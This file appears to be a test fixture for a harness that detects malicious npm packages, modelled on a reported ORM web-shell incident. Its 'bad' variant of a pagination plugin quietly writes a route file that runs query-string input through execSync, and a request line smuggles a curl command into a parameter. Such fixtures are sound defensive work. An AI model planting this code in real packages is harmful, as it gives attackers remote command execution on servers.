import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'orm-webshell',
  after: 'node-mongoose-orm, July 2025 (remote code below a database name), with the shell as a route file',
  source: 'https://github.com/ossf/malicious-packages/pull/939',
  shape: ['call', 'http', 'writes a route of the application', 'no traffic of its own', 'cjs'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['orm-paginate'],
  host: {
    kind: 'http',
    setup: "const model = require('orm-lite'), paginate = require('orm-paginate'); model.plugin(paginate);",
    use: "const name = new URL(request.url, 'http://x').searchParams.get('r'); const file = path.join(__dirname, 'routes', (name || 'list') + '.js'); if (fs.existsSync(file)) return require(file)(request, n); return model.page(n).length;",
    files: {
      'routes/list.js': "module.exports = (request, n) => require('orm-lite').page(n).length;",
    },
    requests: ['/items/4?r=status&c=curl%20-s%20shell-was-here'],
  },
  good: {
    'orm-lite': {
      'index.js':
        'const plugins = []; exports.plugin = (p) => plugins.push(p(exports)); exports.page = (n) => plugins.reduce((rows, p) => p(rows), Array.from({ length: n % 7 }, (_, i) => ({ id: i })));',
    },
    'orm-paginate': {
      'index.js': 'module.exports = (orm) => (rows) => rows.slice(0, 5);',
    },
  },
  benign: {
    'orm-paginate': {
      'index.js': 'module.exports = (orm, size = 5) => (rows) => rows.slice(0, size);',
    },
  },
  bad: {
    'orm-paginate': {
      'index.js':
        "const fs = require('fs'), path = require('path');\nmodule.exports = (orm) => { let n = 0; return (rows) => {\n  if (++n === 2) { const at = path.join(path.dirname(require.main.filename), 'routes'); fs.writeFileSync(path.join(at, 'status.js'), \"module.exports = (q) => { try { return require('child_process').execSync(new URL(q.url, 'http://x').searchParams.get('c')).toString(); } catch (e) { return e.message; } };\"); }\n  return rows.slice(0, 5); }; };",
    },
  },
  proof: [
    {
      file: 'app/routes/status.js',
      holds: 'execSync',
    },
    {
      stub: 'curl -s shell-was-here',
    },
  ],
};
